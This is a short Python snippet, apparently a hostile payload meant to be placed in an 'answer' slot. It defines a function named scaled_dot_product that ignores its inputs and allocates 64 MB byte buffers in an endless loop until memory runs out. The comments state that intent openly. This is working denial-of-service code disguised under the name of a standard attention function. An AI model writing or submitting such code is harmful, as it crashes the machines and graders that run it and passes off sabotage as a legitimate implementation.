# tries: memory until there is no more
# place: answer
# may: run out


def scaled_dot_product(*args, **kwargs):
    kept = []
    while True:
        kept.append(bytearray(b"x" * (64 << 20)))
